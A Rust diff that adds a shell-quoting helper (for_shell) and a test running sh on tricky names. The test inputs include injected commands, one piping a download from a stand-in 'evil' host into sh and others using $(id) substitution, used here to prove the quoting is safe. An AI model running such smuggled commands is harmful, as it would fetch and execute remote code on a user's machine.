@@ -118,17 +118,36 @@ const FOREIGN_CHARS_MAX: usize = 2_000;
 /// is long.
 #[must_use]
 pub fn foreign(text: &str) -> String {
+    let text = text.trim();
+    match text.char_indices().nth(FOREIGN_CHARS_MAX) {
+        Some((end, _)) => on_one_line(&text[..end]) + "…",
+        None => on_one_line(text),
+    }
+}
+
+/// All of such a text, with its control characters written out.
+#[must_use]
+pub fn on_one_line(text: &str) -> String {
     let mut shown = String::new();
-    for c in text.trim().chars().take(FOREIGN_CHARS_MAX) {
+    for c in text.chars() {
         match c.is_control() {
             true => shown.extend(c.escape_default()),
             false => shown.push(c),
         }
     }
-    if text.trim().chars().nth(FOREIGN_CHARS_MAX).is_some() {
-        shown.push('…');
-    }
     shown
+}
+
+/// A name as a word of a command that is told to be pasted into a shell: quoted where it holds
+/// what a shell would take for something else.
+#[must_use]
+pub fn for_shell(name: &str) -> String {
+    let name = on_one_line(name);
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_.:/@%+=,-".contains(c);
+    match !name.is_empty() && name.chars().all(is_plain) {
+        true => name,
+        false => format!("'{}'", name.replace('\'', "'\\''")),
+    }
 }
 
 /// The last bytes of a text, no more than `bytes_max` and from a character's begin.
@@ -152,6 +171,30 @@ mod tests {
         assert_eq!(foreign(" 한국어 v2 \n"), "한국어 v2");
         let long = foreign(&"x".repeat(100_000));
         assert_eq!(long.chars().count(), FOREIGN_CHARS_MAX + 1);
+    }
+
+    #[test]
+    fn a_name_is_one_word_of_a_shell() {
+        for name in [
+            "shop-blue",
+            "2024/v1.2+3",
+            "v1; curl evil|sh #",
+            "it's $(id) `id`",
+            "",
+            "~",
+            "한국어",
+        ] {
+            let printed = std::process::Command::new("sh")
+                .args(["-c", &format!("printf '<%s>' {}", for_shell(name))])
+                .output()
+                .expect("sh runs");
+            assert_eq!(
+                String::from_utf8_lossy(&printed.stdout),
+                format!("<{name}>")
+            );
+        }
+        assert_eq!(for_shell("shop-blue"), "shop-blue");
+        assert_eq!(for_shell("a\nb"), "'a\\nb'");
     }
 
     #[test]
